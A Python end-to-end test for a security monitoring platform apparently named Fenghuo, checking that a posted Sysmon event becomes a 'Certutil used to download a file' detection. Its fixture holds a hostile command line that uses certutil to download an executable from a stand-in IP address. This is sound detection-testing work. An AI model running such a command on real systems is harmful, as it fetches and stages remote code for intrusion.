"""The embedded shape end to end: events posted to the API become detections in the same
process (in-process bus, outbox relay, detection worker started by the app)."""

from __future__ import annotations

import time
from pathlib import Path

import orjson
from fastapi.testclient import TestClient

from fenghuo.api.app import create_app
from fenghuo.monitoring import flows as monitoring_flows
from fenghuo.monitoring.models import Asset
from fenghuo.monitoring.schemas import SourceCreate
from fenghuo.platform import Platform
from fenghuo.settings import Settings
from fenghuo.store.migrations import upgrade
from tests.factories.accounts import TEST_PASSWORD, make_user, make_world

CERTUTIL = {
    "Channel": "Microsoft-Windows-Sysmon/Operational",
    "EventID": 1,
    "Hostname": "ws1",
    "EventTime": "2026-11-28 10:00:00",
    "Image": "C:\\Windows\\System32\\certutil.exe",
    "CommandLine": "certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe",
}


def test_posted_events_become_detections_without_any_other_process(tmp_path: Path) -> None:
    settings = Settings(data_dir=tmp_path, secret_key="test-secret-key-not-for-production")
    platform = Platform.build(settings)
    upgrade(platform.engine)
    with platform.transaction() as session:
        world = make_world(session)
        make_user(session, org=world.national, username="nat.analyst", roles=["analyst"])
        session.add(Asset(org_id=world.energy_op_gd.id, kind="host", value="ws1"))
        _, secret = monitoring_flows.create_source(
            session=session,
            actor=platform.system_actor(),
            source_in=SourceCreate(
                name="gd-sensor", kind="shipper", owner_org_id=world.energy_op_gd.id
            ),
        )
    with TestClient(create_app(platform=platform)) as client:
        sent = client.post(
            "/api/v1/events",
            content=orjson.dumps(CERTUTIL) + b"\n",
            headers={"Authorization": f"Bearer {secret}", "Content-Type": "application/x-ndjson"},
        )
        assert sent.status_code in (200, 202), sent.text
        token = client.post(
            "/api/v1/auth/token", data={"username": "nat.analyst", "password": TEST_PASSWORD}
        ).json()["access_token"]
        deadline, found = time.monotonic() + 20, []
        while time.monotonic() < deadline and not found:
            time.sleep(0.2)
            answer = client.get("/api/v1/detections", headers={"Authorization": f"Bearer {token}"})
            found = answer.json()["items"]
    assert [item["rule_title"] for item in found] == ["Certutil used to download a file"]
    assert found[0]["rule_author"] == "Fenghuo project"
